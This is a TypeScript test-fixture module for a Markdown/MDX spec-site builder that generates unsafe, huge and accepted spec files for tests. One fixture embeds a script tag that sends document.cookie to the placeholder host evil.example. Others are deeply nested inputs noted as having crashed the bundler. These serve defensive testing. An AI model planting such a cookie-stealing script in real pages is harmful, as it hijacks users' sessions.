/**
 * Specs folders generated at test time rather than kept in the repository (no binary file, no
 * 5 MB file in git). The globalSetup writes them before building; the test files read the same
 * sources back to locate what they expect.
 */
import { cpSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ROOT, fixtureSpecsDir } from './build-fixture.ts';
import { MAX_AUTHORS, MAX_MDX_DEPTH, MAX_MDX_EXPRESSION_DEPTH, MAX_TAGS } from '../../src/core/limits.ts';
import fc from 'fast-check';
import { analyzeSpecs } from '../../src/core/index.ts';
import { decodeSpecFile } from '../../src/core/files.ts';
import { mutate, mutation, render, specObject } from './spec-arbitraries.ts';
import { buildSpec } from './spec-builder.ts';

/** A valid Draft, with `extra` as an Appendix. */
export const valid = (feature: string, extra?: string) =>
	buildSpec({ feature, status: 'Draft', lastUpdated: '2026-11-20', ...(extra ? { extraSections: [{ title: 'Appendix', body: extra }] } : {}) });

/** Unsafe or unreadable specs beside a good one: the build must stop with located errors. */
export function unsafeSpecs(): Record<string, string | Uint8Array> {
	return {
		'good.md': valid('Good spec'),
		'xss.md': valid('Retry dashboard').replace('- **Context**:', '- **Context**: See <script>fetch("https://evil.example/?c=" + document.cookie)</script> and'),
		'Upper.MD': valid('Upper case'),
		'binary.md': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00]),
		'deep.md': valid('Runaway nesting', `${'> '.repeat(20_000)}x`),
		// Compiled to JavaScript this deep, an .mdx spec crashed the bundler (a segmentation fault).
		'deep-mdx.mdx': valid('Deep MDX', `${'- '.repeat(300)}x`),
		// 1,400 brackets in an expression crashed the bundler; 20,000 crashed the parser of `check` too.
		'deep-expression.mdx': valid('Deep expression', `Intro.\n\n{${'['.repeat(1_400)}${']'.repeat(1_400)}}`),
		'many-tags.md': withLists('Many tags', 5_000, 1),
		// Starlight refused the icon while rendering: the build logged it unlocated, exited 0 and published an empty page.
		'bad-aside.md': valid('Bad aside', ':::note{icon="nope"}\nBody.\n:::'),
	};
}

/** A valid Draft with `tags` tags and `authors` authors. */
export const withLists = (feature: string, tags: number, authors: number) =>
	buildSpec({
		feature,
		status: 'Draft',
		lastUpdated: '2026-11-20',
		frontmatter: `tags: [${Array.from({ length: tags }, (_, index) => `tag-${index}`).join(', ')}]`,
		authors: Array.from({ length: authors }, (_, index) => `Engineer ${index}`).join(', '),
	});

const paragraph = (index: number) =>
	`Paragraph ${index}: the **ledger** keeps _every_ posting, see [the runbook](https://example.com/runbook/${index}) and \`ledger-svc\`.\n\n- Item ${index}\n  - Nested under ${index}\n\n| a | b |\n| - | - |\n| ${index} | x |\n`;

/** A valid Draft of a little over 5 MB of ordinary Markdown. */
export const fiveMegabytes = () => valid('Five megabytes', Array.from({ length: 26_000 }, (_, index) => paragraph(index)).join('\n'));

/** Huge but harmless specs: 5,000-level nesting, 10,000 headings, a 100 KB line, a 5 MB file. */
export function hugeSpecs(): Record<string, string> {
	const headings = Array.from({ length: 10_000 }, (_, index) => `### Note ${index}\n\nText ${index}.`).join('\n\n');
	return {
		'nested.md': valid('Nested 5000', `${'- '.repeat(5_000)}innermost`),
		'headings.md': valid('Ten thousand headings', headings),
		'long-line.md': valid('Long line', `${'lorem ipsum '.repeat(8_700)}end of line`),
		'five-mb.md': fiveMegabytes(),
		'full-lists.md': withLists('Full lists', MAX_TAGS, MAX_AUTHORS),
		// JavaScript as deep as the limit allows, inside a list as deep as the .mdx limit allows.
		'deepest-mdx.mdx': valid('Deepest MDX', `${'- '.repeat(MAX_MDX_DEPTH / 2 - 2)}{${'['.repeat(MAX_MDX_EXPRESSION_DEPTH - 1)}'innermost'${']'.repeat(MAX_MDX_EXPRESSION_DEPTH - 1)}}`),
	};
}

/** How many generated specs the scale test adds to the site fixture. */
export const EXTRA_SPECS = 60;

/** A temp folder holding `files`; its absolute path. */
export function writeFolder(files: Record<string, string | Uint8Array>, prefix: string, under = tmpdir()): string {
	mkdirSync(under, { recursive: true });
	const dir = mkdtempSync(join(under, prefix));
	for (const [name, content] of Object.entries(files)) {
		mkdirSync(join(dir, name, '..'), { recursive: true });
		writeFileSync(join(dir, name), content);
	}
	return dir;
}

/** A copy of a fixture's specs in a temp folder outside the project. */
export const copyOutside = (scenario: string) => {
	const dir = mkdtempSync(join(tmpdir(), 'specbook-outside-'));
	cpSync(join(ROOT, fixtureSpecsDir(scenario)), dir, { recursive: true });
	return dir;
};

/**
 * The site fixture plus EXTRA_SPECS generated specs, inside the project (`.tmp/`), so that only the
 * number of specs differs from the site fixture, not where they are.
 */
export function siteWithGenerated(): string {
	const files: Record<string, string> = {};
	for (let index = 1; index <= EXTRA_SPECS; index++) files[`generated/spec-${index}.md`] = buildSpec({ feature: `Generated spec ${index}` });
	const dir = writeFolder(files, 'specbook-large-', join(ROOT, '.tmp'));
	cpSync(join(ROOT, fixtureSpecsDir('site')), dir, { recursive: true });
	return dir;
}

/**
 * A specs folder of what `check` accepts, for the property that whatever it accepts the site
 * builds: random valid specs in random spellings, the same after random edits (kept only when
 * they still pass), names that are awkward but allowed, and the inputs that once passed check and
 * then broke the build (a Draft's Phase 0, frontmatter after blank lines, reference links).
 * Deterministic (fixed seeds), so a failure names its file.
 */
export function acceptedSpecs(): Record<string, string> {
	const candidates: Record<string, string> = {};
	const objects = fc.sample(specObject, { seed: 20261205, numRuns: 24 });
	objects.forEach((object, index) => (candidates[`random/spec-${index}.md`] = render(object)));
	const edits = fc.sample(fc.array(mutation, { minLength: 1, maxLength: 3 }), { seed: 1205, numRuns: 60 });
	edits.forEach((edit, index) => {
		const object = objects[index % objects.length]!;
		// A feature of its own: the same one twice is an error of the second file.
		candidates[`mutated/spec-${index}.md`] = mutate(render({ ...object, feature: `Edited ${index}: ${object.feature.slice(0, 100)}` }), edit);
	});
	const spec = (feature: string, options: Parameters<typeof buildSpec>[0] = {}) => buildSpec({ feature, lastUpdated: '2026-11-20', ...options });
	Object.assign(candidates, {
		'names/spec with spaces.md': spec('Spaces in the name'),
		'names/über-straße.md': spec('Unicode in the name'),
		'names/UPPER/Mixed.Case.v2.md': spec('Dots and case'),
		"names/o'brien (draft) [v2].md": spec('Quotes and brackets'),
		'edge/phase-zero.md': spec('Phase zero', { status: 'Draft', phases: [{ name: 'Spike', number: 0, tasks: ['Try it'], dependencies: [], timeline: '1 week' }] }),
		'edge/blank-then-frontmatter.md': `\n\n${spec('Frontmatter after blank lines', { frontmatter: { tags: ['edge'] } })}`,
		'edge/reference-links.md': `${spec('Reference links')}\nSee [the other spec][other] and [its rollout][plan].\n\n[other]: ../names/über-straße.md\n[plan]: ../names/über-straße.md#rollout-plan\n`,
		'edge/aside.mdx': spec('An aside with attributes', { extraSections: [{ title: 'Notes', body: ':::note{title="Heads up" icon="rocket"}\nRetries stop at the budget.\n:::' }] }),
		'edge/fence-and-rule.md': `${spec('Fences and rules')}\n\`\`\`toml\n+++\nkey = 1\n+++\n\`\`\`\n\nText.\n\n---\n\nMore text.\n`,
	});
	// Keep what check accepts; dropping a file can break another (a link to it), so repeat until stable.
	let kept = candidates;
	for (;;) {
		// Decoded from bytes as check reads them (a NUL byte is an error only then).
		const files = Object.entries(kept).map(([path, source]) => decodeSpecFile(`specs/${path}`, new TextEncoder().encode(source)));
		const { diagnostics } = analyzeSpecs(files, { specsDir: 'specs', today: '2026-11-26', fileExists: (path) => files.some((file) => file.path === path) });
		const failed = new Set(diagnostics.filter((diagnostic) => diagnostic.severity === 'error').map((diagnostic) => diagnostic.file.slice('specs/'.length)));
		if (failed.size === 0) return kept;
		kept = Object.fromEntries(Object.entries(kept).filter(([path]) => !failed.has(path)));
	}
}
